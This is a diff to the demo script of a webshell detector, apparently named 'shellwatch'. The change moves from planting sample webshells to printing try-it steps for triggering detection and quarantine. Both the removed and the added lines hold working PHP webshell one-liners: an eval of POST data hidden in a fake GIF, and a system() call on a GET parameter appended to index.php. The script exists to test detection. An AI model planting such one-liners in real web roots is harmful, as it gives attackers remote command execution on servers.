@@ -1,13 +1,15 @@
 #!/usr/bin/env bash
-# `make run`: builds a small demo web root — a few harmless PHP files and
-# copies of three corpus webshells — under build/ (never a served folder) and
-# scans it, so a first-time user sees what a detection looks like.
-# usage: scripts/demo.sh BINARY DEMO_DIR WEBSHELL_CORPUS
+# `make run`: builds a small demo web root of harmless PHP files under
+# build/demo (never a served folder) and runs the daemon on demo/config.toml
+# in the foreground, after saying how to try it.
+# usage: scripts/demo.sh BINARY
 set -euo pipefail
-bin=$1 demo=$2 corpus=$3
+bin=$1
+demo=build/demo
 www="$demo/www"
 rm -rf "$www"
-mkdir -p "$www/wp-content/uploads/2026/11" "$www/includes"
+mkdir -p "$www/wp-content/uploads/2026/11" "$www/includes" "$www/cache" "$demo/state"
+chmod 0700 "$demo/state"
 cat > "$www/index.php" <<'PHP'
 <?php
 require __DIR__ . '/includes/page.php';
@@ -22,27 +24,30 @@ function render_page(string $name): void {
 }
 PHP
 printf 'GIF89a\x01\x00\x01\x00\x00\x00\x00;' > "$www/wp-content/uploads/2026/11/pixel.gif"
-# A China Chopper style one-liner hidden in an image, as dropped through an upload form.
-printf 'GIF89a\n<?php @eval($_POST["x"]); ?>\n' > "$www/wp-content/uploads/2026/11/avatar.gif"
-if [ -d "$corpus" ]; then
-  n=0
-  for f in "$corpus"/JohnTroony+php-webshells/*wso2*.php "$corpus"/tennc+webshell/*c99*.php "$corpus"/threedr3am+JSP-WebShells/*.jsp; do
-    [ -f "$f" ] || continue
-    cp "$f" "$www/wp-content/uploads/2026/11/$(basename "$f" | cut -c14-)"
-    n=$((n+1)); [ $n -ge 3 ] && break
-  done
+
+if [ -S /run/systemd/journal/socket ]; then
+  where="journalctl -t shellwatch -o verbose -n 5     (fields SHELLWATCH_*)"
+else
+  where="this terminal: no journald runs here, so alerts are JSON lines on stderr"
 fi
-echo "demo web root: $www"
-echo "running: $bin scan $www"
-echo
-set +e
-"$bin" scan "$www"
-status=$?
-set -e
-echo
-case $status in
-  0) echo "exit status 0: nothing flagged" ;;
-  1) echo "exit status 1: files flagged (expected: the demo holds webshells)."
-     echo "Try: $bin scan --json $www | head -1" ;;
-  *) echo "exit status $status: an error (see above)"; exit $status ;;
-esac
+cat <<MSG
+shellwatch demo
+  web root:  $www
+  config:    demo/config.toml
+  vault:     $demo/state/quarantine
+
+Try it from another terminal, in $(pwd):
+  # drop a China Chopper style one-liner hidden in an image, as an upload form would
+  printf 'GIF89a\n<?php @eval(\$_POST["x"]); ?>\n' > $www/wp-content/uploads/2026/11/avatar.gif
+  # alerts:
+  #   $where
+  # the file is gone from the web root and in the vault:
+  ls $www/wp-content/uploads/2026/11/
+  $bin quarantine --config demo/config.toml list
+  # edit a file that was there before: alerted, left in place (quarantine_modified = false)
+  echo '<?php system(\$_GET["c"]);' >> $www/index.php
+
+Stop with Ctrl-C (SIGTERM drains and exits 0); reload with: kill -HUP <pid>
+
+MSG
+exec "$bin" run --config demo/config.toml
